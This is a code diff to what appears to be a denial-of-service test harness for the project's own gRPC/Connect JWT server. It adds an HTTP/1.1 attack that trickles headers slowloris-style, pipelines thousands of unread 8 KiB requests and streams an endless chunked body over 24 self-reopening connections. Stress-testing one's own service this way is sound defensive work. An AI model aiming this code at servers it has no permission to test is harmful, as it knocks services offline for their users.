@@ -43,10 +43,12 @@ export interface Attack {
 /** Connections of the half-open and window-0 attacks: the issue's attacker held 24. */
 const HALF_OPEN_CONNECTIONS = 24;
 const WINDOW0_CONNECTIONS = 24;
+/** Connections of the HTTP/1.1 attack, a third of each kind. */
+const HTTP1_CONNECTIONS = 24;
 /** Idle connections: more than a server under an open-files limit of 1024 may hold (its cap is 768). */
 const IDLE_CONNECTIONS = 800;
 
-export const ATTACKS = ['half-open', 'idle', 'silent', 'window0', 'churn'] as const;
+export const ATTACKS = ['half-open', 'idle', 'silent', 'window0', 'churn', 'http1'] as const;
 export type AttackName = (typeof ATTACKS)[number];
 
 /** One line per attack, for the help text and the report. */
@@ -56,6 +58,7 @@ export const ATTACK_DESCRIPTIONS: Readonly<Record<AttackName, string>> = {
   silent: 'silent TCP sockets replaced every 9 s on every port: 800 on gRPC, 140 on discovery, 20 on metrics',
   window0: `${WINDOW0_CONNECTIONS} connections with SETTINGS_INITIAL_WINDOW_SIZE 0 opening whole calls and never reading the answers`,
   churn: 'short connections carrying mutated frames, 4 at a time, as fast as the server takes them',
+  http1: `${HTTP1_CONNECTIONS} HTTP/1.1 connections to the gRPC port, a third each: a request head a header every second (slowloris), 2,000 pipelined 8 KiB Connect calls whose answers are never read, an endless chunked body`,
 };
 
 /** How often each attacking connection adds a stream (the issue's attacker: one every 200 ms, under the refused-stream refill). */
@@ -354,6 +357,74 @@ function churn(target: AttackTarget): Attack {
   };
 }
 
+/** A Connect unary GenerateJwt in JSON over HTTP/1.1 with an 8 KiB subject (refused `invalid_argument`): 8 KiB to read per short answer. */
+function http1Request(): string {
+  const body = JSON.stringify({ algorithm: 'HS256', subject: 'a'.repeat(8192) });
+  return `POST ${GENERATE_PATH} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`;
+}
+
+/** What one HTTP/1.1 attacking connection does once connected, by its slot: slowloris, pipelining without reading, or an endless body. */
+function http1Behaviour(socket: Socket, slot: number): NodeJS.Timeout | undefined {
+  switch (slot % 3) {
+    case 0:
+      socket.write(`POST ${GENERATE_PATH} HTTP/1.1\r\nhost: x\r\n`);
+      return setInterval(() => socket.writable && socket.write('x-a: b\r\n'), 1000);
+    case 1:
+      socket.pause();
+      socket.write(http1Request().repeat(2000));
+      return undefined;
+    default: {
+      socket.write(`POST ${GENERATE_PATH} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`);
+      const chunk = `400\r\n${'a'.repeat(0x400)}\r\n`;
+      return setInterval(() => socket.writable && socket.write(chunk), 5);
+    }
+  }
+}
+
+/** {@link HTTP1_CONNECTIONS} HTTP/1.1 connections, each reopened {@link RECONNECT_MS} after the server closes it. */
+function http1(target: AttackTarget): Attack {
+  const counts = newCounts();
+  const sockets = new Set<Socket>();
+  const timers = new Set<NodeJS.Timeout>();
+  let stopped = false;
+  const open = (slot: number): void => {
+    if (stopped) return;
+    counts.opened++;
+    const socket = connectTcp({ host: target.host, port: target.grpcPort, localAddress: target.from });
+    sockets.add(socket);
+    let connected = false;
+    let timer: NodeJS.Timeout | undefined;
+    socket.on('error', () => {});
+    socket.once('connect', () => {
+      connected = true;
+      counts.streams++;
+      timer = http1Behaviour(socket, slot);
+      if (timer !== undefined) timers.add(timer);
+    });
+    socket.once('close', () => {
+      if (timer !== undefined) {
+        clearInterval(timer);
+        timers.delete(timer);
+      }
+      sockets.delete(socket);
+      if (stopped) return;
+      if (connected) counts.closedByServer++;
+      else counts.failedToOpen++;
+      const next = setTimeout(() => open(slot), RECONNECT_MS);
+      timers.add(next);
+    });
+  };
+  for (let slot = 0; slot < HTTP1_CONNECTIONS; slot++) open(slot);
+  return {
+    counts,
+    stop: () => {
+      stopped = true;
+      for (const timer of timers) clearTimeout(timer);
+      for (const socket of sockets) socket.destroy();
+    },
+  };
+}
+
 /** Starts the attack named. */
 export function startAttack(name: AttackName, target: AttackTarget): Attack {
   switch (name) {
@@ -367,5 +438,7 @@ export function startAttack(name: AttackName, target: AttackTarget): Attack {
       return window0(target);
     case 'churn':
       return churn(target);
+    case 'http1':
+      return http1(target);
   }
 }
